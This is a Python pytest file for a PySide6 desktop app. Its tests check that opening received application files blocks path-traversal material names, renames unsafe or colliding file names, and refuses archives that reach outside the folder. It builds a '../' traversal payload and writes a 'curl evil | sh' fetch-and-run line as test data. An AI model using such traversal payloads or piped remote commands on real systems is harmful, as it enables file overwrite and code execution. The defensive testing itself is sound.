"""Files received from others, opened the way a person opens them (Ctrl+O, the file
dialog answered): nothing is written outside the workspace, nothing outside the file's
place is read or saved, and the person is told which material was refused."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

import pytest
from PIL import Image
from PySide6.QtCore import Qt
from PySide6.QtWidgets import QFileDialog, QMessageBox
from pytestqt.qtbot import QtBot

from desktop.mainwindow import MainWindow
from tests.hostile.corpus import application, outside_archives

pytestmark = pytest.mark.x11  # keyboard focus and shortcuts: see make test


def _press_open(qtbot: QtBot, window: MainWindow, path: Path,
                monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(QFileDialog, "getOpenFileName",
                        lambda *a, **k: (str(path), "application.json (*.json)"))
    window.activateWindow()
    qtbot.waitUntil(window.isActiveWindow)
    qtbot.keyClick(window, Qt.Key.Key_O, Qt.KeyboardModifier.ControlModifier)


def _press_save_as(qtbot: QtBot, window: MainWindow, dest: Path,
                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *a, **k: (str(dest), ""))
    qtbot.keyClick(window, Qt.Key.Key_S,
                   Qt.KeyboardModifier.ControlModifier | Qt.KeyboardModifier.ShiftModifier)


def _messages(window: MainWindow) -> list[str]:
    return [b.text() for b in window.findChildren(QMessageBox) if b.isVisible()]


def _jpeg(path: Path, colour: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (320, 200), colour).save(path, format="JPEG", quality=90)
    return path


def test_a_material_climbing_out_cannot_overwrite_a_file(
        qtbot: QtBot, window: MainWindow, tmp_path: Path, data_dir: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """The reported attack: the copy into the workspace joined ``../../../victim`` to the
    workspace folder, so the attacker's file (found by the same climb from the received
    folder) replaced the victim — ~/.bashrc in the report, a file in tmp_path here."""
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    victim = home / "victim"
    victim.parent.mkdir()
    victim.write_text("the person's own file\n")
    workspace_parent = data_dir / "work"   # workspaces are data/work/<id>/
    climb = "../" * len((workspace_parent / "id").relative_to(tmp_path).parts) + "home/victim"
    received = tmp_path / "inbox" / "chat"
    folder = received / Path(*["x"] * climb.count("../"))
    folder.mkdir(parents=True)
    payload = (folder / climb).resolve()
    payload.parent.mkdir(parents=True, exist_ok=True)
    payload.write_text("curl evil | sh\n")
    assert payload != victim.resolve()
    (folder / "application.json").write_text(
        json.dumps(application([{"kind": "photo", "file": climb}])), encoding="utf-8")

    _press_open(qtbot, window, folder / "application.json", monkeypatch)
    qtbot.waitUntil(lambda: bool(_messages(window) or window.session.app.materials))

    assert victim.read_text() == "the person's own file\n"
    assert not [p for p in tmp_path.rglob("victim") if p not in (victim, payload)]
    text = _messages(window)[-1]
    assert climb in text and "文件夹之外" in text        # which material, and why
    assert window.session.app.materials == []            # nothing of it was taken


def test_odd_material_names_are_copied_in_under_safe_names(
        qtbot: QtBot, window: MainWindow, tmp_path: Path, data_dir: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "received"
    files = ["materials/002-a.jpg", "scans/a.jpg", "materials/a.jpg",  # names that collide
             "scans/2024/身份证 正面.jpg", "CON.jpg", "nul.jpg", "a" * 200 + ".jpg",
             "scans/photo.jpg."]
    for i, name in enumerate(files):
        _jpeg(folder / name, f"hsv({i * 40}, 100%, 100%)")
    (folder / "application.json").write_text(json.dumps(application(
        [{"kind": "other", "file": name} for name in files])), encoding="utf-8")

    _press_open(qtbot, window, folder / "application.json", monkeypatch)
    qtbot.waitUntil(lambda: len(window.session.app.materials) == len(files))

    base = window.session.base_dir
    stored = [m.file for m in window.session.app.materials]
    assert stored[:3] == ["materials/002-a.jpg", "materials/002-2-a.jpg", "materials/a.jpg"]
    assert all(s.startswith("materials/") and s.count("/") == 1 for s in stored)
    assert {p.name for p in base.iterdir()} == {"materials"}   # no scans/ folder made
    for name, file in zip(files, stored, strict=True):
        copy = base / file
        assert copy.resolve().parent == (base / "materials").resolve()
        assert copy.read_bytes() == (folder / name).read_bytes()
    dest = tmp_path / "saved.yibao"
    _press_save_as(qtbot, window, dest, monkeypatch)
    qtbot.waitUntil(lambda: dest.exists())
    with zipfile.ZipFile(dest) as zf:
        members = [n for n in zf.namelist() if n.startswith("materials/")]
    assert len(members) == len(files)
    assert all(len(n.encode()) <= 120 and n.startswith("materials/00") for n in members)


def test_a_folder_entry_archive_is_refused_and_saving_copies_nothing_outside(
        qtbot: QtBot, window: MainWindow, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    secret = _jpeg(tmp_path / "private" / "secret.jpg", "red")
    for name, data in outside_archives(secret).items():
        archive = tmp_path / name
        archive.write_bytes(data)
        _press_open(qtbot, window, archive, monkeypatch)
        qtbot.waitUntil(lambda: bool(_messages(window)))
        text = _messages(window)[-1]
        assert "不是普通文件" in text, (name, text)
        for box in window.findChildren(QMessageBox):
            box.close()
    dest = tmp_path / "saved.yibao"
    _press_save_as(qtbot, window, dest, monkeypatch)
    qtbot.waitUntil(lambda: dest.exists())
    secret_bytes = secret.read_bytes()
    with zipfile.ZipFile(dest) as zf:
        assert all(zf.read(n) != secret_bytes for n in zf.namelist())
        assert [n for n in zf.namelist() if n != "analyses.json"] == ["application.json"]
